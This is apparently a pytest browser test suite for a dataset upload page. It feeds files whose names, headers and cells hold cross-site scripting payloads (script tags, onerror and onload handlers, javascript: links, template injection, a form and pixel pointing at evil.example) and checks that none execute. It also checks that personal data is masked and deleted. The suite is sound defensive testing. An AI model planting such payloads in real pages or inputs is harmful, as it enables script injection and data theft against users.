"""The data page over rows that try to become markup, and over personal data that someone wants gone."""

import csv
import io
import json
import zipfile

import pytest

from core.engine import Engine
from tests.e2e.recorder import Recorder
from tests.e2e.served import Served
from tests.e2e.viewer import go, says

pytestmark = [pytest.mark.browser, pytest.mark.timeout(1500)]

PAYLOADS = (
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=2</script>",
    "<svg/onload=window.pwned=3>",
    "[click](javascript:window.pwned=4)",
    "![p](http://evil.example/pixel.png)",
    "<iframe srcdoc='<script>parent.pwned=5</script>'></iframe>",
    "<form action='http://evil.example/'><input name=a><button>go</button></form>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red' id=overlay>x</div>",
    "' onmouseover='window.pwned=6' x='",
    '" autofocus onfocus=window.pwned=7 x="',
    "</td></table><a href=javascript:window.pwned=8>x</a>",
    "$$\\href{javascript:window.pwned=9}{x}$$ {{constructor.constructor('window.pwned=10')()}} ${window.pwned=11}",
)
SECRET = "maria.lindqvist@posteo.de"


@pytest.fixture(scope="module")
def recorded(tmp_path_factory):
    return Recorder(tmp_path_factory.mktemp("recorder"))


@pytest.fixture(scope="module")
def served(tmp_path_factory, recorded):
    dashboard = Served(tmp_path_factory.mktemp("hostile") / ".home", env=recorded.env)
    yield dashboard
    dashboard.end()


@pytest.fixture
def page(served, look):
    page = look.tab(f"{served.url}/?step=1")
    page.wait_for_selector("#ft-other-data, #ft-sample-legal_clauses", state="visible")
    page.wait_for_timeout(1000)
    if page.is_visible("#ft-other-data"):
        page.click("#ft-other-data")
    page.wait_for_selector("#ft-sample-legal_clauses")
    return page


def upload(page, *files):
    dropped = [{"name": name, "mimeType": "application/octet-stream", "buffer": data} for name, data in files]
    page.set_input_files("#ft-file input[type=file]", dropped)


def table(extra=()):
    """A CSV whose header, cells and labels are payloads, with everything in it that is found and can be mended."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([f"text {PAYLOADS[8]}{PAYLOADS[0]}", f"label {PAYLOADS[1]}", PAYLOADS[9]])
    labels = (f"yes {PAYLOADS[0]}", f"no {PAYLOADS[7]}", PAYLOADS[2])
    for number in range(90):
        payload = PAYLOADS[number % len(PAYLOADS)]
        writer.writerow([f"{number} reads {payload} and goes on for a while", labels[number % 3], payload])
    writer.writerow([f"3 reads {PAYLOADS[3]} and goes on for a while", labels[0], ""])  # says the same twice
    writer.writerow([f"write to {SECRET} {PAYLOADS[0]}", labels[1], PAYLOADS[5]])
    writer.writerow(
        [f"the caf\u00c3\u00a9 {PAYLOADS[1]}\u200b\u202e{PAYLOADS[2]} is broken", f"{labels[0]} ".upper(), ""]
    )
    writer.writerow(["", labels[1], ""])
    writer.writerow([PAYLOADS[2], PAYLOADS[10], PAYLOADS[11]])
    writer.writerows(extra)
    return out.getvalue().encode()


def unfold(page):
    for fold in page.query_selector_all("button.label-wrap:not(.open)"):
        if fold.is_visible():
            fold.click()
    page.wait_for_timeout(1500)


def is_harmless(page, look, where):
    assert page.evaluate("window.pwned") is None, where
    alien = "iframe, form[action^='http'], #overlay, img[src='x'], a[href^='javascript'], [onerror], [onmouseover]"
    assert [one.inner_html() for one in page.query_selector_all(alien)] == [], where
    page.evaluate("document.querySelectorAll('#ft-walk [title]').forEach(e => e.dispatchEvent(new Event('mouseover')))")
    assert page.evaluate("window.pwned") is None, where
    assert look.foreign == [], where
    assert look.dialogs == [], where


def test_nothing_of_a_hostile_file_runs_while_its_findings_are_mended(page, look, served):
    upload(page, ("<img src=x onerror=window.pwned=12>.csv", table()))
    says(page, "What was found")
    page.wait_for_selector("#ft-health .ft-mend")
    unfold(page)
    is_harmless(page, look, "at first")
    page.wait_for_selector("#ft-as-seen .ft-rendered")
    page.wait_for_selector("#ft-download:enabled")
    look.picture(page, "hostile-data-page")
    previews = 0
    for number in range(len(page.query_selector_all("#ft-health .ft-mend"))):
        page.query_selector_all("#ft-health .ft-mend")[number].click()
        page.wait_for_selector("#ft-mend-preview", state="visible")
        is_harmless(page, look, f"preview {number}")
        page.click("#ft-mend-cancel")
        page.wait_for_selector("#ft-mend-preview", state="hidden")
        previews += 1
    assert previews >= 4
    page.click("#ft-fix-safe")
    page.wait_for_selector("#ft-fix-safe", state="hidden")
    page.wait_for_timeout(1500)
    is_harmless(page, look, "mended")
    with page.expect_download() as loaded:
        page.click("#ft-download")
    assert loaded.value.path().read_bytes()
    for step in (2, 1):
        go(page, step)
        page.wait_for_timeout(1000)
        is_harmless(page, look, f"page {step}")


def test_names_within_archives_conversions_and_templates_are_text_only(page, look):
    packed = io.BytesIO()
    rows = table().replace(b"goes on", b"went on")
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{PAYLOADS[0].replace('/', '')}_train.csv", rows)
        archive.writestr(f"{PAYLOADS[7].replace('/', '')}.csv", rows)
    upload(page, ("<svg onload=window.pwned=13>.zip", packed.getvalue()))
    says(page, "pwned=13")
    page.wait_for_selector("#ft-format", state="visible")
    is_harmless(page, look, "archive")
    if page.is_visible("#ft-other-data"):
        page.click("#ft-other-data")
    wide = io.StringIO(newline="")
    writer = csv.writer(wide)
    writer.writerow(["text", *PAYLOADS[:3]])
    writer.writerows([f"this is text {n} {PAYLOADS[0]}", n % 2, (n + 1) % 2, 0] for n in range(40))
    upload(page, ("wide.csv", wide.getvalue().encode()))
    page.wait_for_selector("#ft-format", state="visible")
    unfold(page)
    is_harmless(page, look, "wide labels")
    page.fill("#ft-part-0 input", f"{{text}} {PAYLOADS[0]}")
    page.press("#ft-part-0 input", "Enter")
    page.press("#ft-part-0 input", "Tab")
    page.wait_for_timeout(3000)
    is_harmless(page, look, "template")


def test_refusals_repeat_names_and_cells_as_text(page, look):
    broken = f'text,{PAYLOADS[0]}\n"{PAYLOADS[1]}\n'.encode()
    nested = json.dumps({PAYLOADS[0]: PAYLOADS[2]}).encode() + b"\n{" + PAYLOADS[1].encode()
    for name, content in ((f"{PAYLOADS[9]}.csv", broken), ("<img src=x onerror=window.pwned=1>.jsonl", nested)):
        upload(page, (name, content))
        says(page, "onfocus=window" if name.endswith("csv") else "onerror=window.pwned=1.jsonl")
        says(page, "This file cannot be read")
        is_harmless(page, look, name)
    page.click("#ft-other-ways button")
    page.fill("#ft-hub input, #ft-hub textarea", PAYLOADS[0])
    page.click("#ft-fetch")
    says(page, "is no id of a data set on the hub", "body")
    is_harmless(page, look, "hub")


def test_masked_data_stand_in_the_upload_alone_and_are_deleted_with_two_clicks(page, look, served, recorded):
    rows = "".join(f"the parcel number {n} never came to me,{'a' if n % 2 else 'b'}\n" for n in range(40))
    upload(page, ("people.csv", f"text,label\n{rows}write to {SECRET} about the lamp,a\n".encode()))
    says(page, "Your file is ready")
    page.click("#ft-mend-personal-data-mask")
    says(page, "[EMAIL]", "#ft-mend-preview")
    page.click("#ft-mend-apply")
    page.wait_for_selector("#ft-mend-personal-data-mask", state="detached")
    engine = Engine(served.home, launcher="thread")
    try:
        masked = engine.source(engine.draft()["data"]["source"])
    finally:
        engine.close()
    held = {path.relative_to(served.home).parts[1] for path in holding(SECRET, served.home)}
    assert masked.parent in held
    assert masked.id not in held
    assert SECRET not in served.output
    page.click("#ft-versions button")
    page.click("#ft-delete-data")
    says(page, "cannot be undone", "#ft-versions")
    page.click("#ft-keep-data")
    page.wait_for_selector("#ft-really-delete-data", state="hidden")
    page.click("#ft-delete-data")
    says(page, "(2 versions)", "#ft-versions")
    look.picture(page, "data-delete")
    page.click("#ft-really-delete-data")
    page.wait_for_selector("#ft-sample-legal_clauses", state="visible")
    assert not (served.home / "datasets" / masked.id).exists()
    assert not (served.home / "datasets" / masked.parent).exists()
    assert not any(masked.parent in str(path) for path in holding(SECRET, served.home))
    assert not list((served.home / "uploads").rglob("people*"))
    assert recorded.elsewhere() == set()


def holding(text, folder):
    return [path for path in folder.rglob("*") if path.is_file() and text.encode() in path.read_bytes()]


def test_a_mend_is_undone_after_the_server_was_killed(look, tmp_path, serve):
    home = tmp_path / "home"
    served = serve(home)
    page = look.tab(f"{served.url}/?step=1")
    rows = "".join(f"the parcel number {n} never came to me,{'a' if n % 2 else 'b'}\n" for n in range(40))
    upload(page, ("twice.csv", f"text,label\n{rows}the parcel number 3 never came to me,a\n".encode()))
    says(page, "Your file is ready: 41 examples")
    page.click("#ft-fix-safe")
    says(page, "Your file is ready: 40 examples")
    served.end(9)
    origin = next(home.glob("datasets/*/origin.json"))
    damaged = home / "datasets" / "0123456789ab"
    damaged.mkdir()
    (damaged / "origin.json").write_text(origin.read_text()[:30])
    again = serve(home)
    page = look.tab(f"{again.url}/?step=1")
    says(page, "Your file is ready: 40 examples")
    page.click("#ft-undo")
    says(page, "Your file is ready: 41 examples")
